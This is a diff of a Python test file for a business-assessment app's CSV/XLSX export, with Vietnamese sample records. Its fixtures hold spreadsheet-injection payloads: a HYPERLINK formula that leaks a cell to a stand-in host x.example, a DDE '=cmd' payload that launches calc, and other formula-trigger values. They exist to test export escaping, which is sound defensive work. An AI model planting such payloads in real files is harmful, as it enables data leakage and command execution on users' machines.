@@ -4,7 +4,6 @@ import csv
 import datetime
 import json
 from collections import Counter
-from dataclasses import replace
 
 import pytest
 from hypothesis import given, settings, strategies as st
@@ -25,8 +24,7 @@ FORMULA = '=HYPERLINK("http://x.example/?leak="&A2,"Click")'
 @pytest.fixture
 def repo(tmp_path, installed_mini, workshop, shop):
     with Repository(tmp_path / "store") as repository:
-        w = repository.add_business(replace(workshop, address="Km 5, Cam Lộ", contact=replace(
-            workshop.contact, name="Anh Hùng", phone="0905111222")))
+        w = repository.add_business(workshop._replace(address="Km 5, Cam Lộ", contact=workshop.contact._replace(name="Anh Hùng", phone="0905111222")))
         repository.save_assessment(w.id, completed(installed_mini, workshop, level=2))
         repository.save_assessment(w.id, completed(installed_mini, workshop, level=4, stage="T1"))
         s = repository.add_business(shop)
@@ -83,9 +81,9 @@ def _hostile_repo(tmp_path, instrument, workshop, count=K):
     The province must be one of the 34 now, but an earlier release stored any text: written into the file as it did."""
     with Repository(tmp_path / "hostile") as repo:
         for i in range(count):
-            b = repo.add_business(replace(workshop, name=f"{FORMULA} {i}", industry="=1+2", tax_code="",
+            b = repo.add_business(workshop._replace(name=f"{FORMULA} {i}", industry="=1+2", tax_code="",
                                           province="Huế", commune="@SUM(A1)", address="-2+3"))
-            assessment = replace(completed(instrument, workshop), assessor=Assessor("-Cô Lan", "=cmd|' /C calc'!A0"))
+            assessment = completed(instrument, workshop)._replace(assessor=Assessor("-Cô Lan", "=cmd|' /C calc'!A0"))
             repo.save_assessment(b.id, assessment)
     db = tmp_path / "hostile" / "cds-desktop.json"
     tables = json.loads(db.read_text(encoding="utf-8"))
@@ -129,7 +127,7 @@ def test_csv_cells_that_would_run_get_an_apostrophe_but_numbers_do_not():
 
 def test_control_characters_in_a_name_or_address_do_not_break_the_xlsx(tmp_path, installed_mini, workshop):
     with Repository(tmp_path / "store") as repo:
-        b = repo.add_business(replace(workshop, name="Xưởng\x0b mộc\x1b[31m", address="Km\x00 5\x7f"))
+        b = repo.add_business(workshop._replace(name="Xưởng\x0b mộc\x1b[31m", address="Km\x00 5\x7f"))
         repo.save_assessment(b.id, completed(installed_mini, workshop))
         export_table(repo, tmp_path / "t.xlsx", "xlsx")
         export_table(repo, tmp_path / "t.csv", "csv")
@@ -141,9 +139,9 @@ def test_control_characters_in_a_name_or_address_do_not_break_the_xlsx(tmp_path,
 
 def test_an_unreal_revenue_is_refused_and_a_stored_one_fails_the_export_naming_the_business(
         tmp_path, installed_mini, workshop):
-    assert [p.where for p in business_problems(replace(workshop, annual_revenue_vnd=10**400))] == [
+    assert [p.where for p in business_problems(workshop._replace(annual_revenue_vnd=10**400))] == [
         "business.annual_revenue_vnd"]
-    assert [p.where for p in business_problems(replace(workshop, employees=5_000_000))] == ["business.employees"]
+    assert [p.where for p in business_problems(workshop._replace(employees=5_000_000))] == ["business.employees"]
     doc = {"business": {**workshop.to_json(), "total_capital_vnd": 10**400}}
     assert any("total_capital_vnd" in p.where for p in schema_problems(doc, "assessment.schema.json"))
     with Repository(tmp_path / "store") as repo:
@@ -228,7 +226,7 @@ def test_one_business_alone_in_its_month_and_revenue_band_cannot_be_singled_out(
         for i in range(6):
             b = _business(i, "Đông Hà")
             if i == 5:
-                b = replace(b, annual_revenue_vnd=20_000_000_000)
+                b = b._replace(annual_revenue_vnd=20_000_000_000)
             b = repo.add_business(b)
             repo.save_assessment(b.id, completed(installed_mini, b, on=datetime.date(2026, 3, 10) if i == 5 else datetime.date(2026, 5, 4)))
         table = export_table(repo, tmp_path / "t.csv", "csv", lang="en", anonymize=True)
@@ -292,7 +290,7 @@ def test_size_bands_hide_the_figures():
 
 def _peers(repo, instrument, business, count, level=3):
     for i in range(count):
-        peer = repo.add_business(replace(business, name=f"Cơ sở {i}", tax_code=""))
+        peer = repo.add_business(business._replace(name=f"Cơ sở {i}", tax_code=""))
         repo.save_assessment(peer.id, completed(instrument, business, level=level))
 
 
@@ -334,7 +332,7 @@ def test_benchmark_widens_to_every_size_when_too_few_of_the_same_size(repo, inst
     workshop_id = next(b.id for b in repo.businesses() if b.name == "Xưởng mộc Cam Lộ")
     own = repo.assessments_of(workshop_id)[0]
     _peers(repo, installed_mini, workshop, 2)
-    _peers(repo, installed_mini, replace(workshop, employees=5, annual_revenue_vnd=1_000_000_000), 3)  # micro
+    _peers(repo, installed_mini, workshop._replace(employees=5, annual_revenue_vnd=1_000_000_000), 3)  # micro
     result = benchmark(repo, own.id)
     assert result.size_class is None and result.sample_size == 5 and not result.hidden
 
@@ -372,7 +370,7 @@ def test_the_anonymised_table_carries_no_assessor_typed_as_free_text(tmp_path, i
     with Repository(tmp_path / "store") as repo:
         for i in range(K):
             b = repo.add_business(_business(i, "Đông Hà"))
-            repo.save_assessment(b.id, replace(completed(installed_mini, b),
+            repo.save_assessment(b.id, completed(installed_mini, b)._replace(
                                                assessor=Assessor("Lan", "Nguyễn Văn An, 0905 123 456")))
         export_table(repo, tmp_path / "anon.csv", "csv", lang="en", anonymize=True)
         export_table(repo, tmp_path / "named.csv", "csv", lang="en")
